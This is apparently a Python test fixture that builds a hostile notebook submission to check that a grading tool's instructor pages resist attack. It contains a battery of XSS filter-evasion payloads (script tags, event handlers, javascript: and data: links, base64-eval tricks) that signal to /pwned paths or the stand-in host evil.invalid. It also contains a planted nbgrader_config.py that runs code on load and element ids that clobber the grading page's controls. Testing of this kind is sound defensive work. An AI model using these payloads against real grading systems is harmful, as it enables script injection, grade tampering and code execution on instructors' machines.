"""A hostile submission's payloads for the instructor's pages: the shapes of OWASP's XSS filter-evasion list, in a
written answer, in outputs of every mimetype, in metadata, error texts and files handed in beside the notebook.

Every payload that ran would leave a trace the browser test sees: a request whose path holds ``pwned`` or to
the host ``evil.invalid``, a changed ``document.title``, a dialog. ``hostile_notebook`` builds the submission
from a correct solution, so that a notebook's graded functions stay correct and only the pages are attacked.
"""

from __future__ import annotations

import base64
from pathlib import Path

import nbformat

SIGNAL = "fetch('/pwned/{n}');document.title='pwned {n}'"
EVIL = "http://evil.invalid"


def _markdown_payloads() -> list[str]:
    """One payload per line of a written answer; ``{n}`` is replaced by its number."""
    s = SIGNAL
    return [
        f"<script>{s}</script>",
        f'<img src=x onerror="{s}">',
        f'<svg onload="{s}"></svg>',
        f'<details open ontoggle="{s}"><summary>x</summary></details>',
        f'<iframe srcdoc="<script>parent.{s}</script>"></iframe>',
        f'<a href="javascript:{s}">a javascript: link</a>',
        f"[a markdown javascript: link](javascript:{s})",
        '<meta http-equiv="refresh" content="0;url=/pwned/{n}">',
        "<div style=\"background:url('/pwned/{n}')\">styled</div>",
        f'<base href="{EVIL}/{{n}}/">',
        '<form action="/pwned/{n}"><button>go</button></form>',
        '<object data="/pwned/{n}"></object><embed src="/pwned/{n}">',
        f'<iframe src="data:text/html,<script>parent.{s}</script>"></iframe>',
        f"<ScRiPt>{s}</sCrIpT>",
        f"&lt;script&gt;{s}&lt;/script&gt;",
        "<img src=x onerror=&#102;&#101;&#116;&#99;&#104;('/pwned/{n}')>",
        f'<img """><script>{s}</script>">',
        f"<scr<script>ipt>{s}</script>",
        f"<svg><script>{s}</script></svg>",
        f'<math><mtext><table><mglyph><style><img src=x onerror="{s}">',
        f'<img src="{EVIL}/{{n}}.png">',
        f'<link rel="stylesheet" href="{EVIL}/{{n}}.css">',
        f"<style>@import '{EVIL}/{{n}}.css';</style>",
        f'<video><source onerror="{s}"></video>',
        f'<body onload="{s}">',
        f'<input autofocus onfocus="{s}">',
        '<a href="data:text/html;base64,{b64}">a data: link</a>',
        f'<img src="javascript:{s}">',
        f'<object data="data:text/html,<script>{s}</script>"></object>',
        '<script src="evil.js"></script>',  # the submission's own file, same origin through the formgrader
        '<script src="/files/evil.js"></script>',
        f"$\\href{{javascript:{s}}}{{x}}$",
        f"<IMG SRC=`javascript:{s}`>",
        "<img src=x:alert(1) onerror=eval(atob('{atob}'))>",
        f'<div onmouseover="{s}" style="width:100%;height:100%;position:fixed;top:0;left:0">hover</div>',
    ]


def markdown_battery(first: int = 1) -> tuple[str, list[int]]:
    """The written answer with every payload (numbered from ``first``) -> (markdown, numbers)."""
    lines, numbers = [], []
    for n, template in enumerate(_markdown_payloads(), start=first):
        signal = SIGNAL.format(n=n)
        line = template.replace("{n}", str(n))
        line = line.replace("{b64}", base64.b64encode(f"<script>{signal}</script>".encode()).decode())
        line = line.replace("{atob}", base64.b64encode(signal.encode()).decode())
        lines.append(line)
        numbers.append(n)
    text = "My answer: positions $i < j$ matter.\n\n" + "\n\n".join(lines)
    return text, numbers


def hostile_outputs(first: int) -> tuple[list, list[int]]:
    """Outputs of every kind a notebook can hold, each a payload (numbered from ``first``)."""
    n = first
    s = [SIGNAL.format(n=n + i) for i in range(12)]
    outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/plain": f"<script>{s[0]}</script>",
                "text/html": f'<script>{s[1]}</script><img src=x onerror="{s[2]}">',
                "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{s[3]}"><script>{s[4]}</script></svg>',
                "application/javascript": s[5],
                "text/latex": f"</div><script>{s[6]}</script>",
                "text/markdown": f'<img src=x onerror="{s[7]}">',
            },
        ),
        nbformat.v4.new_output(
            "display_data",
            data={"image/png": f'x" onerror="{s[8]}'},
            metadata={"image/png": {"width": f"1 onerror={s[9]}"}},
        ),
        nbformat.v4.new_output(
            "error",
            ename=f"<script>{s[10]}</script>",
            evalue=f'<img src=x onerror="{s[11]}">',
            traceback=[f"<script>{s[10]}</script>"],
        ),  # fmt: skip
        nbformat.v4.new_output("stream", name="stdout", text=f"<script>{s[10]}</script>\n"),
    ]
    return outputs, list(range(n, n + 12))


def hostile_notebook(solution: Path, answer_id: str, code_id: str) -> tuple[nbformat.NotebookNode, list[int]]:
    """``solution`` with the written answer ``answer_id`` replaced by the markdown battery, the answer cell
    ``code_id`` (kept correct) carrying hostile outputs and metadata, and a cell of its own with hostile metadata.
    -> (notebook, every payload number)."""
    nb = nbformat.read(solution, as_version=4)
    text, numbers = markdown_battery()
    outputs, more = hostile_outputs(numbers[-1] + 1)
    last = more[-1] + 1
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id == answer_id:
            cell.source = text
        elif grade_id == code_id:
            cell.outputs = outputs
            cell.execution_count = 1
            cell.metadata["tags"] = [f"<script>{SIGNAL.format(n=last)}</script>"]
    nb.cells.append(
        nbformat.v4.new_markdown_cell(
            f"<script>{SIGNAL.format(n=last + 1)}</script>",
            metadata={"tags": [f'x"><script>{SIGNAL.format(n=last + 2)}</script>']},
        )
    )  # nbgrader refuses a submission whose nbgrader metadata is malformed: a cell of plain markdown here
    return nb, [*numbers, *more, last, last + 1, last + 2]


def hostile_files(folder: Path, n: int) -> None:
    """Files handed in beside the notebook: a page, a script and an image that would run ``n``'s signal, and an
    nbgrader configuration that leaves a file ``ran`` beside itself when a server loads it."""
    signal = SIGNAL.format(n=n)
    (folder / "nbgrader_config.py").write_text(
        "from pathlib import Path\nPath(__file__).with_name('ran').write_text('instructor code execution')\n"
    )
    (folder / "evil.js").write_text(signal)
    (folder / "evil.html").write_text(f'<script>{signal}</script><img src=x onerror="{signal}">')
    (folder / "evil.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{signal}"><script>{signal}</script></svg>'
    )


def planted_ids(targets: list[str]) -> str:
    """A written answer that plants, for each grade id of ``targets``, every id, name and reference the manual-grading
    page binds a grade's controls by (its score input ``<id>``, extra credit ``<id>_extra_credit``, comment
    ``<id>-comment``), the classes its script finds them by, and the page's status line: no script needed."""
    lines = ["An answer of my own, with a few elements of the page's:"]
    for grade_id in targets:
        lines += [
            f'<span id="{grade_id}">a</span><span id="{grade_id}_extra_credit">b</span>',
            f'<span id="{grade_id}-comment">c</span><a name="{grade_id}">d</a><label for="{grade_id}">e</label>',
            f'<span aria-controls="{grade_id}" aria-labelledby="{grade_id}" data-toggle="tooltip">f</span>',
            f"\n## {grade_id}\n",  # a heading's anchor is its text
        ]
    lines += [
        '<div class="nbgrader_cell panel"><span class="score tabbable">g</span><span class="extra-credit">h</span>',
        '<span class="comment">i</span><span class="full-credit no-credit mark-graded">j</span></div>',
        '<span id="statusmessage" class="score-saved comment-saved">k</span>',
    ]
    return "\n".join(lines)
